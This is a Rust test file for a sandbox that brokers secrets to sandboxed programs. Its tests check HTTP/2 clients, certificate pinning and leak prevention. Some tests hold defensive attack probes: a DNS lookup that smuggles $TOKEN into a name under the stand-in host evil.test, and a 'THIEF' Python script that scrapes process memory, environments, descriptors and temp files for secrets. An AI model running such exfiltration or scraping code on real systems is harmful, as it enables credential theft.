//! Brokered secrets with more clients, more sandboxes and more ways to get at a value.

use std::io::{BufRead as _, BufReader, Write as _};
use std::path::Path;
use std::process::{Command, Stdio};

use bailiwick_testkit::skip;
use serde_json::{Value, json};

use super::secrets::{GRANT, VALUE, World, text, uses};
use super::served::Served;
use super::traces::{Traces, below};
use super::world::{Stage, in_world, test_name, users};
use super::{NAMES, servers};
use crate::escape::as_user;

#[test]
fn curl_uses_a_secret_over_http_2() {
    if in_world(test_name!()) {
        let ask = "/usr/bin/curl -sS --http2 -w '%{stderr}version %{http_version}\\n' \
                   -H \"Authorization: Bearer $TOKEN\" https://good.test/x 2> /tmp/said; grep -q 'version 2' /tmp/said || cat /tmp/said";
        let caps = ["exec:spawn:/usr/bin/curl", "exec:spawn:/usr/bin/grep", "exec:spawn:/usr/bin/cat"];
        uses(&["/usr/bin/bash", "-c", ask], &caps);
    }
}

#[test]
fn node_http2_uses_a_secret_that_it_does_not_have() {
    if in_world(test_name!()) {
        let ask = "const c = require('http2').connect('https://good.test'); \
                   const r = c.request({':path': '/x', authorization: 'Bearer ' + process.env.TOKEN}); \
                   let t = ''; r.on('data', d => t += d); r.on('end', () => { process.stdout.write(t); c.close(); }); r.end()";
        uses(&["/usr/bin/node", "-e", ask], &[]);
    }
}

#[test]
fn python_httpx_uses_a_secret_over_http_2() {
    if !in_world(test_name!()) {
        return;
    }
    let names = ["httpx", "httpcore", "h2", "hpack", "hyperframe", "h11", "anyio", "idna", "certifi"];
    let packages =
        super::clients::packages().filter(|place| names.iter().all(|name| place.join(name).is_dir()));
    let Some(packages) = packages else { return skip("no `httpx` in the cache that scripts/test fills") };
    let directory = tempfile::tempdir_in("/var/tmp").unwrap();
    std::fs::set_permissions(directory.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    for name in names {
        let copied =
            Command::new("cp").arg("-r").arg(packages.join(name)).arg(directory.path()).status().unwrap();
        assert!(copied.success(), "{name}");
    }
    drop(Command::new("cp").arg(packages.join("typing_extensions.py")).arg(directory.path()).status());
    let ask = "import os, sys, ssl; sys.path.insert(0, sys.argv[1]); import httpx; \
               c = httpx.Client(http2=True, verify=ssl.create_default_context()); \
               r = c.get('https://good.test/x', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']}); \
               assert r.http_version == 'HTTP/2', r.http_version; sys.stdout.write(r.text)";
    let own = directory.path().display().to_string();
    uses(&["/usr/bin/python3", "-c", ask, &own], &[&format!("fs:read:{own}/**")]);
}

/// What comes of a script inside, and what was told of it.
fn said(world: &World, stage: &Stage, caps: &[&str], script: &str) -> (String, String) {
    let mut run = world.run(stage, caps, &["--"]);
    let output = run.args(["/usr/bin/bash", "-c", script]).output().unwrap();
    (text(&output.stdout), text(&output.stderr))
}

#[test]
fn a_client_that_pins_or_ignores_the_list_is_refused_with_the_reason() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users() {
        let stage = Stage::new(*user);
        // A list of its own that has the real server's authority and not the sandbox's.
        let own = stage.path("own.pem");
        let shown = format!("fs:read:{}", own.display());
        let before = world.good.count();
        for option in [format!("--cacert {}", own.display()), "-k --pinnedpubkey sha256//AAAA".to_owned()] {
            let script = format!(
                "/usr/bin/curl -sS {option} -H \"Authorization: Bearer $TOKEN\" https://good.test/x; echo $?"
            );
            let (out, log) = said(&world, &stage, &["exec:spawn:/usr/bin/curl", &shown], &script);
            assert!(
                !out.contains("the answer") && !out.ends_with("\n0\n") && out.trim() != "0",
                "{user:?} {out} {log}"
            );
            assert!(
                log.contains("does not trust the sandbox's certificate") || option.starts_with("-k"),
                "{log}"
            );
        }
        assert_eq!(world.good.all()[before..].concat(), "", "{user:?}: no request");
    }
}

#[test]
fn a_placeholder_in_a_name_is_refused_and_asked_of_no_server() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    let names = servers::dns(NAMES, |_, _| vec!["93.184.216.66"]);
    for user in users() {
        let stage = Stage::new(*user);
        let caps = ["net:connect:*.evil.test", "exec:spawn:/usr/bin/getent", "exec:spawn:/usr/bin/tr"];
        let script = "getent hosts plain.evil.test > /dev/null && echo found; getent hosts $TOKEN.evil.test; \
                      getent hosts $(echo $TOKEN | tr a-z A-Z | tr _ -).evil.test; \
                      getent hosts ${TOKEN:0:20}.${TOKEN:20}.evil.test; echo end";
        let (out, log) = said(&world, &stage, &caps, script);
        assert!(out.starts_with("found\n") && out.ends_with("end\n"), "{user:?} {out} {log}");
        assert!(log.contains("the placeholder of a secret was sent where its value is not used"), "{log}");
    }
    for asked in names.all() {
        assert!(asked.len() < 30 || asked.contains('.'), "{asked}");
        assert!(!asked.split('.').any(|label| label.len() == VALUE.len()), "{asked}");
    }
}

#[test]
fn nothing_of_what_holds_secrets_is_reachable_from_inside() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users() {
        let stage = Stage::new(*user);
        let caps = ["exec:spawn:/usr/bin/ls", "exec:spawn:/usr/bin/cat", "exec:spawn:/usr/bin/tr"];
        let script = "ls -l /proc/self/fd /proc/1/fd 2>&1; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done; \
                      cat /proc/net/unix 2>&1; echo TOKEN=$TOKEN";
        let (out, log) = said(&world, &stage, &caps, script);
        assert!(out.contains("TOKEN="), "{out} {log}");
        assert!(!out.contains("socket:") && !out.contains("hold") && !out.contains(VALUE), "{user:?} {out}");
    }
}

/// What a program tries that was told everything about how values are kept: whom it sees, their memory, their environment, their
/// descriptors, a debugger, core files, sockets of every kind, and a process of its own that is to hold values.
const THIEF: &str = r#"
import ctypes, glob, os, socket, subprocess, sys
seen = []
def look(what, read):
    try:
        seen.append((what, read()))
    except Exception as fault:
        seen.append((what, repr(fault)))
def memory(pid):
    found = b""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw"):
                try:
                    file.seek(start)
                    found += file.read(end - start)
                except OSError:
                    pass
    return found
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path[6:])
    for name in ("cmdline", "environ", "maps"):
        look(path + "/" + name, lambda: open(f"{path}/{name}", "rb").read())
    look(path + "/fd", lambda: [os.readlink(one) for one in glob.glob(path + "/fd/*")])
    if pid != os.getpid():
        look(path + "/mem", lambda: memory(pid))
        look(f"ptrace {pid}", lambda: (libc.ptrace(16, pid, 0, 0), ctypes.get_errno()))
        buffer = ctypes.create_string_buffer(65536)
        look(f"pidfd {pid}", lambda: os.pidfd_open(pid))
look("core", lambda: open("/proc/sys/kernel/core_pattern").read())
look("unix", lambda: open("/proc/net/unix").read())
for name in glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True) + glob.glob("/dev/shm/**", recursive=True):
    look(name, lambda: open(name, "rb").read(65536))
for argv in (["secret", "hold"], ["secret", "check", "--secret", "TOKEN=env:THE_VALUE"], ["secret", "check", "--secret", "TOKEN=env:TOKEN"]):
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET) if hasattr(socket, "SOCK_SEQPACKET") else (None, None)
    def hold():
        child = subprocess.Popen([sys.argv[1], *argv], stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        ours.send(b"L")
        ours.close()
        theirs.close()
        return child.communicate(timeout=20)[0]
    look(" ".join(argv), hold)
print(len(seen), "looks", flush=True)
sys.stdout.buffer.write(repr(seen).encode() + b"".join(what[1] for what in seen if isinstance(what[1], bytes)))
"#;

#[test]
fn a_program_that_looks_everywhere_finds_nothing_of_a_value() {
    if !in_world(test_name!()) {
        return;
    }
    let (world, traces) = (World::new(), Traces::of(&[VALUE]));
    for user in users() {
        let stage = Stage::new(*user);
        let program = stage.path("bailiwick").display().to_string();
        let spawns = format!("exec:spawn:{program}");
        let mut run = world.run(&stage, &[&spawns, "exec:spawn:/usr/bin/python3"], &["--"]);
        let output = run.args(["/usr/bin/python3", "-c", THIEF, &program]).output().unwrap();
        let said = text(&output.stdout);
        let looks = said.split(' ').next().unwrap_or_default().parse::<usize>().unwrap_or(0);
        assert!(
            looks > 10 && said.contains("TOKEN=") && said.contains("secret hold"),
            "{user:?} {looks} {output:?}"
        );
        assert_eq!(traces.in_bytes(&output.stdout), 0, "{user:?} {said}");
        assert_eq!(traces.in_bytes(&output.stderr), 0, "{user:?} {output:?}");
    }
    // The measure itself.
    assert!(traces.in_bytes(format!("x{VALUE}x").as_bytes()) > 0);
}

#[test]
fn without_the_process_that_holds_values_nothing_reaches_their_hosts() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users() {
        let stage = Stage::new(*user);
        let mut run = world.run(&stage, &["exec:spawn:/usr/bin/curl"], &["--"]);
        let script = format!("{ASK}; echo first; read line; {ASK}; echo second");
        run.args(["/usr/bin/bash", "-c", &script])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = run.spawn().unwrap();
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines().map_while(Result::ok);
        let first: Vec<String> = lines.by_ref().take_while(|line| line != "first").collect();
        assert!(first.join("\n").contains("the answer"), "{user:?} {first:?}");
        let reached = world.good.count();
        assert!(world.good.all().concat().contains(VALUE));
        let (outside, _) = super::traces::outside_and_inside(child.id());
        let words = |pid: &u32| std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let holder = outside.iter().find(|pid| words(pid).contains("secret\0hold")).expect("it runs");
        let holder = rustix::process::Pid::from_raw(i32::try_from(*holder).unwrap()).unwrap();
        rustix::process::kill_process(holder, rustix::process::Signal::KILL).unwrap();
        writeln!(child.stdin.take().unwrap(), "go on").unwrap();
        let second: Vec<String> = lines.by_ref().take_while(|line| line != "second").collect();
        let output = child.wait_with_output().unwrap();
        let log = text(&output.stderr);
        assert!(!second.join("\n").contains("the answer"), "{user:?} {second:?}");
        assert!(log.contains("the process that holds the secrets cannot be asked"), "{log}");
        assert_eq!(world.good.all()[reached..].concat(), "", "{user:?}: no request");
    }
}

const ASK: &str =
    "/usr/bin/curl -sS -H \"Authorization: Bearer $TOKEN\" https://good.test/x; echo; echo \"$TOKEN\"";

#[test]
fn each_call_of_serve_uses_a_secret_and_no_sandbox_of_it_has_the_value() {
    if !in_world(test_name!()) {
        return;
    }
    let (world, traces) = (World::new(), Traces::of(&[VALUE]));
    for user in users() {
        let stage = Stage::new(*user);
        let own = ["--cap", GRANT, "--secret", "TOKEN=env:THE_VALUE"];
        let programs =
            ["/usr/bin/curl", "/usr/bin/bash", "/usr/bin/sleep"].map(|name| format!("exec:spawn:{name}"));
        let caps = programs.iter().flat_map(|cap| ["--cap", cap.as_str()]);
        let mut served =
            Served::new(&world.authority, &stage, &own.into_iter().chain(caps).collect::<Vec<_>>());
        let before = world.good.count();
        let mut placeholders = std::collections::BTreeSet::new();
        for id in 1..4 {
            let answer = served.ask(Served::bash(id, ASK));
            assert!(answer.contains("the answer") && !answer.contains(VALUE), "{user:?} {answer}");
            let answer: Value = serde_json::from_str(&answer).unwrap();
            let said =
                answer["result"]["structuredContent"]["stdout"].as_str().unwrap_or_default().to_owned();
            placeholders.insert(said.lines().last().unwrap_or_default().to_owned());
        }
        assert_eq!(placeholders.len(), 3, "fresh for each sandbox: {placeholders:?}");
        let heard = world.good.all()[before..].join("\n");
        assert!(heard.contains(VALUE), "{heard}");
        served.say(&Served::bash(9, &format!("{ASK}; /usr/bin/sleep 30; :")));
        let number = |pid: u32| std::fs::read_link(format!("/proc/{pid}/ns/pid")).ok();
        let own = number(served.child.id());
        let mut inside = Vec::new();
        for _ in 0..200 {
            inside = below(served.child.id()).into_iter().filter(|pid| number(*pid) != own).collect();
            let is_asleep = |pid: &u32| {
                std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|name| name == "sleep\n")
            };
            if inside.iter().any(is_asleep) {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        if rustix::process::getuid().is_root() {
            let found: Vec<(u32, usize)> = inside.iter().map(|pid| (*pid, traces.in_process(*pid))).collect();
            assert!(found.len() >= 3 && found.iter().all(|(_, count)| *count == 0), "{user:?} {found:?}");
            assert_eq!(traces.in_process(served.child.id()), 0, "nor has the server itself");
        }
    }
}

#[test]
fn a_secret_check_says_which_are_usable_and_never_what_they_are() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join(".config/bailiwick");
    std::fs::create_dir_all(&config).unwrap();
    let file = home.path().join("value");
    std::fs::write(&file, VALUE).unwrap();
    let settings = format!(
        "[secrets]\nGOOD = 'file:{}'\n[secrets.NARROW]\nsource = 'env:NOT_SET'\nhosts = ['api.test']\n",
        file.display()
    );
    std::fs::write(config.join("config.toml"), settings).unwrap();
    let run = |words: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_bailiwick"));
        command
            .args(words)
            .env_clear()
            .env("HOME", home.path())
            .env("PATH", format!("{}:/usr/bin:/bin", home.path().join("programs").display()))
            .env("CREDENTIALS_DIRECTORY", home.path())
            .env("MINE", VALUE);
        let output = command.output().unwrap();
        let said = text(&output.stdout) + &text(&output.stderr);
        assert!(!said.contains(VALUE) && !said.contains(VALUE.get(..8).unwrap()), "{words:?} {said}");
        (output.status.code().unwrap(), said)
    };
    let (code, said) = run(&["secret", "list"]);
    assert!(code == 0 && said.contains("GOOD") && said.contains("api.test"), "{said}");
    let (code, said) = run(&["secret", "check", "--secret", "MINE=env:MINE"]);
    assert!(code == 1 && said.contains("`env:NOT_SET` was tried") && said.contains("MINE"), "{said}");
    let (_, said) = run(&["secret", "check", "--format", "json"]);
    let answer: Value = serde_json::from_str(&said).unwrap();
    let usable: Vec<bool> =
        answer["secrets"].as_array().unwrap().iter().map(|one| one["usable"] == true).collect();
    assert_eq!(usable, [true, false], "{said}");
    // The other sources, an OAuth client's own secret, and a value that a manifest has to allow.
    let programs = home.path().join("programs");
    std::fs::create_dir(&programs).unwrap();
    let tool = programs.join("secret-tool");
    let lines = format!("#!/bin/sh\ntest \"$*\" = 'lookup service brave username me' && echo {VALUE}\n");
    std::fs::write(&tool, lines).unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    std::fs::write(home.path().join("short"), "0123456789").unwrap();
    let short = format!("GOOD=file:{}/short", home.path().display());
    std::fs::write(
        config.join("config.toml"),
        "[secrets.TOKEN]\nsource = 'keyring:brave/me'\n[secrets.TOKEN.oauth]\ntoken_url = 'https://login.test/'\n\
         grant = 'refresh-token'\nclient_id = 'c'\nclient_secret = 'systemd:client'\n",
    )
    .unwrap();
    let more = ["secret", "check", "--secret", &short];
    let (code, said) = run(&more);
    assert!(code == 1 && said.contains("`client_secret`: `systemd:client` was tried"), "{said}");
    assert!(said.contains("fewer than 16 characters"), "{said}");
    std::fs::write(home.path().join("client"), VALUE).unwrap();
    let (code, said) = run(&more);
    assert!(code == 0 && !said.contains("tried"), "{said}");
    let (code, said) = run(&["secret", "check", "--secret", "OTHER=keyring:brave/you"]);
    assert!(code == 1 && said.contains("`keyring:brave/you` was tried"), "{said}");
    let (code, said) = run(&["secret", "check", "--secret", &format!("WRONG={VALUE}")]);
    assert!(code == 2 && said.contains("env:VARIABLE"), "{said}");
}

/// A server whose tools ask for the answer with the secret, in whichever process they are.
const SERVER: &str = r#"
while IFS= read -r line; do
  id=${line#*\"id\":}; id=${id%%,*}
  case "$line" in
    *'"initialize"'*) printf '{"jsonrpc":"2.0","id":%s,"result":{"protocolVersion":"2025-11-25","capabilities":{"tools":{}},"serverInfo":{"name":"s","version":"1"}}}\n' "$id";;
    *'"tools/list"'*) printf '{"jsonrpc":"2.0","id":%s,"result":{"tools":[{"name":"one","inputSchema":{"type":"object"}},{"name":"two","inputSchema":{"type":"object"}}]}}\n' "$id";;
    *'"tools/call"'*) printf '{"jsonrpc":"2.0","id":%s,"result":{"content":[{"type":"text","text":"%s"}]}}\n' "$id" "$(/usr/bin/curl -sS -H "Authorization: Bearer $TOKEN" https://good.test/x)";;
  esac
done
"#;

#[test]
fn tools_in_processes_of_their_own_use_a_secret_each() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    let stage = Stage::new(users()[0]);
    let own = stage.path("own.pem");
    std::fs::write(&own, &world.authority.pem).unwrap();
    let manifest = stage.path("m.toml");
    let tool = |name: &str, more: &str| {
        format!(
            "[[tools]]\nname = '{name}'\nstate = 'none'\ncapabilities = ['{GRANT}', 'exec:spawn:/usr/bin/curl'{more}]\n"
        )
    };
    let lines = format!(
        "name = 's'\nversion = '1'\n{}{}",
        tool("one", ""),
        tool("two", ", 'exec:spawn:/usr/bin/true'")
    );
    std::fs::write(&manifest, lines).unwrap();
    let mut command = as_user(users()[0], stage.path("bailiwick"));
    command.args([
        "wrap",
        "--isolate",
        "tool",
        "--no-journal",
        "--secret",
        "TOKEN=env:THE_VALUE",
        "--manifest",
    ]);
    command.arg(&manifest).args(["--hosts", "good.test=93.184.216.34", "--", "/usr/bin/bash", "-c", SERVER]);
    command.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", stage.path("")).env("SSL_CERT_FILE", own);
    command.env("THE_VALUE", VALUE).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut output = BufReader::new(child.stdout.take().unwrap());
    let mut ask = |id: u64, method: &str, params: Value| {
        let message = json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params });
        writeln!(child.stdin.as_mut().unwrap(), "{message}").unwrap();
        loop {
            let mut line = String::new();
            if output.read_line(&mut line).unwrap() == 0 {
                return "the end".to_owned();
            }
            if serde_json::from_str::<Value>(&line).unwrap()["id"] == id {
                return line;
            }
        }
    };
    let client = json!({ "name": "c", "version": "1" });
    let opened = ask(
        0,
        "initialize",
        json!({ "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": client }),
    );
    assert!(opened.contains("serverInfo"), "{opened}");
    for (id, name) in [(1, "one"), (2, "two"), (3, "one")] {
        let answer = ask(id, "tools/call", json!({ "name": name, "arguments": {} }));
        assert!(answer.contains("the answer"), "{name}: {answer}");
    }
    drop(child.stdin.take());
    drop(child.kill());
    let errors = text(&child.wait_with_output().unwrap().stderr);
    assert!(world.good.all().join("\n").matches(VALUE).count() >= 3, "{errors}");
    assert!(Path::new(&manifest).exists() && !errors.contains(VALUE), "{errors}");
}
